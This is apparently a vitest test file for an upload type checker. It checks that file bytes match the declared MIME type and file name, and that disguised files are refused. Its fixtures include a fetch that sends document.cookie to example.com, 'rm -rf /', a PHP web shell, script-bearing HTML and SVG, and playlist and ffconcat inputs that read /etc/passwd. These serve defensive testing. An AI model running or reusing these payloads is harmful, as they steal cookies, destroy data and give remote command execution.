import { describe, expect, test } from 'vitest';

import { checkAcceptedType } from './check-accepted-type.ts';
import { compareDeclaredType } from './compare-declared-type.ts';
import { sniffType } from './sniff.ts';

const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1');
const padded = (text: string): Buffer => Buffer.concat([latin1(text), Buffer.alloc(4096)]);
const hex = (digits: string): Buffer => Buffer.concat([Buffer.from(digits.replaceAll(' ', ''), 'hex'), Buffer.alloc(4096)]);
const iso = (brand: string): Buffer => padded(`\0\0\0\x18ftyp${brand}\0\0\0\x01${brand}isom`);
const verdict = (bytes: Buffer, contentType: string | undefined, fileName: string | undefined, accepted: readonly string[]): string =>
  (
    compareDeclaredType(sniffType(bytes), { contentType: contentType ?? null, fileName: fileName ?? null }, accepted) ??
    checkAcceptedType(sniffType(bytes), accepted)
  )?.code ?? 'accepted';

const jpeg = padded('\xff\xd8\xff\xe0');
const png = padded('\x89PNG\r\n\x1a\n');
const webp = padded('RIFF\x10\0\0\0WEBPVP8 ');
const gif = padded('GIF89a');
const heic = iso('heic');
const zip = padded('PK\x03\x04\x14\0');
const pdf = padded('%PDF-1.4\n1 0 obj');
const ole = hex('d0cf11e0a1b11ae1');
const gzip = hex('1f8b0800');
const program = padded('MZ\x90\0\x03');
const elf = padded('\x7fELF\x02\x01\x01');
const html = latin1('<!doctype html><script>alert(document.cookie)</script>');
const svg = latin1('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const script = latin1('fetch("https://example.com/?" + document.cookie);\n');
const xml = (root: string): Buffer => latin1(`<?xml version="1.0" encoding="UTF-8"?>\n<${root}></${root}>`);
const packets = (size: number, first: number): Buffer => {
  const bytes = Buffer.alloc(size * 30);
  for (let at = first; at < bytes.length; at += size) bytes[at] = 0x47;
  return bytes;
};

describe('if only certain types are accepted, the declared type must be true', () => {
  const photos = ['image/jpeg', 'image/png', 'image/webp', 'image/heic'];

  test.each([
    ['the exact type', png, 'image/png', 'a.png'],
    ['an alias', jpeg, 'image/jpg', 'a.jpeg'],
    ['nothing', png, '', ''],
    ['nothing at all', png, undefined, undefined],
    ['a parameter behind the type', jpeg, 'image/jpeg; charset=UTF-8', 'a.jpg'],
    ['HEIF for HEIC', heic, 'image/heif', 'IMG_1.HEIC'],
    ['an ending that is not known here', png, 'image/png', 'a.photo'],
    ['a multi-picture JPEG under its own ending', jpeg, 'image/jpeg', 'a.MPO'],
    ['JFIF, which some systems call a type', jpeg, 'image/jfif', 'a.jfif'],
  ])('agrees: %s', (_, bytes, mime, name) => {
    expect(verdict(bytes, mime, name, photos)).toBe('accepted');
  });

  test.each([
    '',
    '*/*',
    'image/*',
    'application/*',
    'multipart/form-data',
    'multipart/form-data; boundary=x',
    'application/octet-stream',
    'binary/octet-stream',
  ])('the type "%s" says nothing, and the bytes decide', (mime) => {
    expect(verdict(jpeg, mime, 'scan.jpg', photos)).toBe('accepted');
    expect(verdict(html, mime, 'scan', photos)).toBe('unsupported_type');
  });

  test.each([
    ['JPEG named .HEIC', jpeg, 'image/heic', 'IMG_0001.HEIC'],
    ['HEIC declared as JPEG', heic, 'image/jpeg', 'IMG_0001.jpg'],
    ['WebP saved as .jpeg', webp, 'image/jpeg', 'picture.jpeg'],
    ['PNG named .jpg, undeclared', png, '', 'A.JPG'],
  ])('an accepted picture under the name of another accepted one is taken for what it is: %s', (_, bytes, mime, name) => {
    expect(verdict(bytes, mime, name, photos)).toBe('accepted');
  });

  test.each([
    ['HTML declared as PNG', html, 'image/png', 'a.png'],
    ['HTML named .png', html, undefined, 'a.png'],
    ['SVG named .jpg', svg, undefined, 'a.jpg'],
    ['a picture that is not accepted under the name of one that is', gif, 'image/png', 'a.png'],
    ['an accepted picture under the name of one that is not', jpeg, undefined, 'a.gif'],
    ['ZIP declared as a picture', zip, 'image/png', undefined],
    ['ZIP declared as an unheard-of picture', zip, 'image/x-unheard-of', undefined],
    ['unknown bytes declared as JPEG', hex('0102030405'), 'image/jpeg', 'a.jpg'],
    ['unknown bytes named .mp4', hex('0102030405'), undefined, 'a.mp4'],
    ['a program declared as PDF', program, 'application/pdf', 'invoice.pdf'],
  ])('disagrees: %s', (_, bytes, mime, name) => {
    expect(verdict(bytes, mime, name, photos)).toBe('type_mismatch');
  });

  test('a drawing cannot be declared as another kind of picture, even if both are accepted', () => {
    expect(verdict(svg, 'image/jpeg', 'a.jpg', ['image/jpeg', 'image/svg+xml'])).toBe('type_mismatch');
    expect(verdict(svg, 'image/svg+xml', 'a.svg', ['image/jpeg', 'image/svg+xml'])).toBe('accepted');
  });

  test('names the declared and the real type', () => {
    expect(compareDeclaredType(sniffType(gif), { contentType: 'image/jpeg', fileName: 'a.jpg' }, photos)?.detail).toBe(
      'The file is declared as a JPEG picture (image/jpeg), but its bytes are a GIF picture (image/gif). Send it under its real type, or convert it first.',
    );
  });
});

describe('if any type is accepted, so are the files that people sell', () => {
  test.each([
    ['logo.ai', 'application/postscript', pdf],
    ['logo.ai', 'application/illustrator', latin1('%!PS-Adobe-3.0 EPSF-3.0\n')],
    ['logo.ai', 'application/pdf', pdf],
    ['logo.eps', 'application/postscript', hex('c5d0d3c6 20000000')],
    ['logo.eps', 'image/x-eps', pdf],
    ['poster.psd', 'image/vnd.adobe.photoshop', padded('8BPS\0\x01')],
    ['poster.psd', 'application/octet-stream', jpeg],
    ['book.indd', 'application/x-indesign', hex('0606edf5d81d46e5bd31efe7fe74b71d')],
    ['brush.abr', 'application/octet-stream', hex('00060002')],
    ['tones.atn', '', hex('00000010')],
    ['art.procreate', 'application/zip', zip],
    ['design.fig', 'application/octet-stream', padded('fig-kiwi')],
    ['design.sketch', 'application/octet-stream', padded('SQLite format 3\0')],
    ['design.sketch', 'application/octet-stream', zip],
    ['photo.afphoto', '', hex('00ff4b41')],
    ['photo.dng', 'image/x-adobe-dng', hex('49492a0008000000')],
    ['photo.cr2', 'image/x-canon-cr2', hex('49492a001000000043520200')],
    ['photo.cr3', 'image/x-canon-cr3', iso('crx ')],
    ['photo.nef', 'image/x-nikon-nef', hex('4d4d002a00000008')],
    ['photo.raf', 'image/x-fuji-raf', padded('FUJIFILMCCD-RAW ')],
    ['photo.rw2', 'image/x-panasonic-rw2', hex('49495500')],
    ['photo.orf', 'application/octet-stream', hex('4949524f')],
    ['photo.x3f', 'image/x-sigma-x3f', padded('FOVb')],
    ['map.tga', 'image/x-tga', hex('000002000000000000000000000200020018')],
    ['sky.hdr', 'image/vnd.radiance', latin1('#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\n')],
    ['sky.exr', 'image/x-exr', hex('762f3101')],
    ['film.cube', 'application/octet-stream', latin1('TITLE "Film"\nLUT_3D_SIZE 33\n')],
    ['film.3dl', '', latin1('0 64 128\n')],
    ['warm.xmp', 'application/octet-stream', latin1('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta>')],
    ['warm.lrtemplate', '', latin1('s = {\n\tid = "1",\n}\n')],
    ['font.otf', 'font/otf', hex('0001000000')],
    ['font.otf', 'application/x-font-ttf', padded('OTTO\0')],
    ['font.ttf', 'font/ttf', padded('true\0')],
    ['font.ttf', 'font/ttf', padded('OTTO\0')],
    ['font.woff', 'font/woff', padded('wOF2')],
    ['font.woff2', 'application/font-woff2', padded('wOFF')],
    ['font.pfb', 'application/x-font-type1', padded('\x80\x01\0\0\0\0%!PS-AdobeFont-1.0')],
    ['old.doc', 'application/msword', padded('{\\rtf1 hello}')],
    ['old.doc', 'application/msword', html],
    ['new.doc', 'application/msword', zip],
    ['letter.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', zip],
    ['deck.pptx', 'application/vnd.openxmlformats-officedocument.presentationml.presentation', ole],
    ['export.xls', 'application/vnd.ms-excel', latin1('<html><table><tr><td>1</td></tr></table></html>')],
    ['export.xls', 'application/vnd.ms-excel', latin1('a\tb\tc\n1\t2\t3\n')],
    ['export.xls', 'application/vnd.ms-excel', xml('Workbook')],
    ['data.csv', 'application/vnd.ms-excel', latin1('a;b;c\n1;2;3\n')],
    ['data.csv', 'text/csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('a,b\n', 'utf16le')])],
    ['deck.key', 'application/x-iwork-keynote-sffkey', zip],
    ['server.key', 'application/octet-stream', latin1('-----BEGIN PRIVATE KEY-----\n')],
    ['notes.pages', 'application/vnd.apple.pages', zip],
    ['book.epub', 'application/epub+zip', zip],
    ['book.mobi', 'application/x-mobipocket-ebook', padded(`${'Book'.padEnd(60, '\0')}BOOKMOBI`)],
    ['book.azw3', 'application/vnd.amazon.ebook', padded(`${'Book'.padEnd(60, '\0')}BOOKMOBI`)],
    ['report.pdf', 'application/pdf', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), pdf])],
    ['report.pdf', 'application/pdf', Buffer.concat([Buffer.from('\r\n'), pdf])],
    ['part.stl', 'model/stl', latin1('solid part\nfacet normal 0 0 1\n')],
    ['part.stl', 'application/vnd.ms-pki.stl', Buffer.alloc(200)],
    ['part.obj', 'model/obj', latin1('# Blender\nv 1 2 3\n')],
    ['part.3mf', 'model/3mf', zip],
    ['scene.gltf', 'model/gltf+json', latin1('{"asset":{"version":"2.0"}}')],
    ['scene.glb', 'model/gltf-binary', padded('glTF\x02\0\0\0')],
    ['scene.fbx', 'application/octet-stream', padded('Kaydara FBX Binary  \0\x1a\0')],
    ['scene.blend', 'application/x-blender', padded('BLENDER-v300')],
    ['scene.blend', 'application/x-blender', gzip],
    ['scene.dae', 'model/vnd.collada+xml', xml('COLLADA')],
    ['scene.usd', 'application/octet-stream', padded('PXR-USDC')],
    ['scene.usdz', 'model/vnd.usdz+zip', zip],
    ['scene.max', '', ole],
    ['plan.dwg', 'image/vnd.dwg', padded('AC1027')],
    ['plan.dxf', 'image/vnd.dxf', latin1('  0\nSECTION\n  2\nHEADER\n')],
    ['index.ts', 'video/mp2t', latin1('export const a: number = 1;\n')],
    ['index.ts', 'video/vnd.dlna.mpeg-tts', latin1('#!/usr/bin/env node\nexport const a: number = 1;\n')],
    ['app_de.ts', 'video/mp2t', xml('TS')],
    ['module.mts', 'video/mp2t', latin1('export const a = 1;\n')],
    ['app.tsx', '', latin1('<App />')],
    ['Widget.vue', '', latin1('<script setup>const a = 1</script>')],
    ['README.md', 'text/markdown', latin1('<p align="center"><img src="logo.png"></p>\n')],
    ['package.json', 'application/json', latin1('{}')],
    ['theme.html', 'text/html', html],
    ['theme.php', 'application/x-php', latin1('<?php echo 1;')],
    ['icon.svg', 'image/svg+xml', svg],
    ['icon.svg', 'text/xml', svg],
    ['meeting.ics', 'text/calendar', latin1('BEGIN:VCALENDAR\r\n')],
    ['track.gpx', 'application/gpx+xml', xml('gpx')],
    ['film.srt', 'application/x-subrip', latin1('1\n00:00:01,000 --> 00:00:02,000\nHi\n')],
    ['film.vtt', 'text/vtt', latin1('WEBVTT\n')],
    ['song.mid', 'audio/midi', padded('MThd\0\0\0\x06')],
    ['song.als', 'application/octet-stream', gzip],
    ['song.logicx', 'application/zip', zip],
    ['song.flp', 'application/octet-stream', padded('FLhd\x06\0\0\0')],
    ['beat.wav', 'audio/wav', padded('BW64\xff\xff\xff\xffWAVEds64')],
    ['beat.w64', 'audio/x-w64', hex('726966662e91cf11')],
    ['beat.wav', 'audio/wav', padded('ID3\x04\0\0\0\0\x02\x01')],
    ['beat.aif', 'audio/x-aiff', padded('FORM\0\0\0\0AIFCFVER')],
    ['beat.flac', 'audio/flac', padded('fLaC\0\0\0\x22')],
    ['kit.sf2', '', padded('RIFF\0\0\0\0sfbkLIST')],
    ['patch.nki', '', hex('12902a7f')],
    ['clip.mts', 'video/mp2t', packets(192, 4)],
    ['clip.mpg', 'video/mpeg', packets(188, 0)],
    ['clip.mp4', 'video/mp4', padded('\x1a\x45\xdf\xa3\x9f\x42\x82\x88matroska')],
    ['clip.mp4', 'video/*', iso('isom')],
    ['clip.mov', 'video/quicktime', iso('isom')],
    ['clip.mxf', 'application/mxf', hex('060e2b34020501010d010201')],
    ['motion.mogrt', '', zip],
    ['anim.lottie', '', zip],
    ['project.aep', '', padded('RIFX\0\0\0\0Egg!')],
    ['project.prproj', '', gzip],
    ['app.apk', 'application/vnd.android.package-archive', zip],
    ['app.dmg', 'application/x-apple-diskimage', hex('7801730d626260')],
    ['setup.exe', 'application/x-msdownload', program],
    ['plugin.vst3', '', program],
    ['plugin.8bf', '', program],
    ['setup.AppImage', 'application/x-executable', elf],
    ['install.run', '', latin1('#!/bin/sh\n')],
    ['firmware.bin', 'application/octet-stream', gzip],
    ['disc.bin', 'application/octet-stream', hex('00ffffffffffffffffffff00')],
    ['firmware.bin', 'application/x-binary', elf],
    ['disc.iso', 'application/x-iso9660-image', Buffer.alloc(4096)],
    ['Thumbs.db', 'application/octet-stream', ole],
    ['notes.db', '', padded('SQLite format 3\0')],
    ['all.7z', 'application/x-7z-compressed', hex('377abcaf271c')],
    ['all.rar', 'application/vnd.rar', padded('Rar!\x1a\x07\x01\0')],
    ['comic.cbz', 'application/vnd.comicbook+zip', padded('Rar!\x1a\x07\x01\0')],
    ['all.tar.gz', 'application/gzip', gzip],
    ['page.html.gz', 'application/gzip', gzip],
    ['old.tar', 'application/x-tar', padded(`${'a.txt'.padEnd(100, '\0')}0000644\0`)],
    ['doc.xps', 'application/oxps', zip],
    ['notes from example.com', 'text/plain', latin1('just a text about example.com')],
    ['list.m3u', 'audio/x-mpegurl', latin1('song.mp3\n')],
    ['list.pls', 'audio/x-scpls', latin1('[playlist]\n')],
    ['sheet.musicxml', 'application/vnd.recordare.musicxml+xml', xml('score-partwise')],
    ['pattern.pes', '', padded('#PES0001')],
    ['cut.studio3', '', padded('silhouette05')],
    ['without-an-ending', '', html],
  ])('%s, declared as "%s"', (name, mime, bytes) => {
    expect(verdict(bytes, mime, name, ['*/*'])).toBe('accepted');
  });

  test.each([
    ['a page under a picture’s name', 'photo.jpg', 'image/jpeg', html],
    ['a page under a picture’s name, undeclared', 'photo.jpg', '', html],
    ['a page declared as a picture', 'photo', 'image/jpeg', html],
    ['a page declared as a picture that is not known here', 'photo', 'image/x-unheard-of', html],
    ['a page in UTF-16 under a picture’s name', 'photo.jpg', '', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<html>', 'utf16le')])],
    ['a page behind a BOM and a comment', 'photo.png', '', Buffer.from('\ufeff <!-- x --><HTML>')],
    ['a page under a video’s name', 'clip.mp4', 'video/mp4', html],
    ['a page under a document’s name', 'book.pdf', 'application/pdf', html],
    ['a page under an archive’s name', 'all.zip', 'application/zip', html],
    ['a script under a picture’s name', 'photo.jpg', 'image/jpeg', script],
    ['a script under a recording’s name', 'song.mp3', 'audio/mpeg', script],
    ['a shell script under a picture’s name', 'photo.png', '', latin1('#!/bin/sh\nrm -rf /\n')],
    ['PHP under a picture’s name', 'photo.gif', 'image/gif', latin1('<?php system($_GET["c"]);')],
    ['a drawing with a script under a picture’s name', 'photo.jpg', 'image/jpeg', svg],
    ['a drawing script', 'photo.jpg', '', latin1('push graphic-context\nviewbox 0 0 1 1')],
    ['PostScript under a picture’s name', 'photo.jpg', '', latin1('%!PS\n')],
    ['a style sheet that transforms', 'photo.jpg', '', xml('xsl:stylesheet')],
    ['a playlist under a video’s name', 'clip.mp4', 'video/mp4', latin1('#EXTM3U\nfile:///etc/passwd')],
    ['a concat script under a video’s name', 'clip.mp4', '', latin1('ffconcat version 1.0\nfile /etc/passwd')],
    ['a program under a picture’s name', 'photo.jpg', '', program],
    ['a program under a document’s name', 'invoice.pdf', 'application/pdf', program],
    ['a page with a zero byte in it', 'photo.jpg', '', latin1('<html>\0<script>alert(1)</script>')],
    ['Flash under a picture’s name', 'photo.jpg', '', padded('CWS\x0a\0\0\0\0')],
    ['a shortcut under a document’s name', 'invoice.pdf', '', padded('L\0\0\0\x01\x14\x02\0')],
    ['a program under an archive’s name', 'all.zip', '', elf],
    ['a picture under a document’s name', 'book.pdf', 'application/pdf', jpeg],
    ['a video under a picture’s name', 'photo.jpg', '', iso('isom')],
    ['a document under a picture’s name', 'photo.jpg', 'image/jpeg', pdf],
  ])('and what hides is refused: %s', (_, name, mime, bytes) => {
    expect(verdict(bytes, mime, name, ['*/*'])).toBe('type_mismatch');
  });
});

describe('a type is accepted or not', () => {
  test('by its exact name, its major type, a wider type, or any', () => {
    const type = sniffType(heic);
    expect(checkAcceptedType(type, ['image/heic'])).toBeNull();
    expect(checkAcceptedType(type, ['image/*'])).toBeNull();
    expect(checkAcceptedType(type, ['image/heif'])).toBeNull();
    expect(checkAcceptedType(sniffType(padded('OTTO\0')), ['font/ttf'])).toBeNull();
    expect(checkAcceptedType(sniffType(hex('0001000000')), ['font/otf'])).toBeNull();
    expect(checkAcceptedType(null, ['*/*'])).toBeNull();
  });

  test('and the refusal names the accepted ones', () => {
    expect(checkAcceptedType(sniffType(heic), ['image/jpeg', 'image/png'])).toEqual({
      code: 'unsupported_type',
      detail: 'This is a HEIC picture (image/heic). Accepted here: a JPEG picture, a PNG picture.',
    });
    expect(checkAcceptedType(null, ['image/jpeg'])?.code).toBe('unsupported_type');
  });
});
